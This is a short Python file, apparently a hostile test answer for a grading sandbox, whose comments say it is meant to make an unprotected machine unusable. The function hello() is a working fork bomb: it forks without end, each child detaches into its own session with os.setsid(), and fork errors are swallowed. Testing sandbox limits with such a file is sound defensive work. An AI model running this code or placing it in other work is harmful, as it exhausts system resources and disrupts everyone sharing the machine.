# %%answer hello_ranks
# tries: forks without end, each child in a session of its own
# unprotected: the machine is unusable, and other answers fail for it
import os


def hello(number):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue
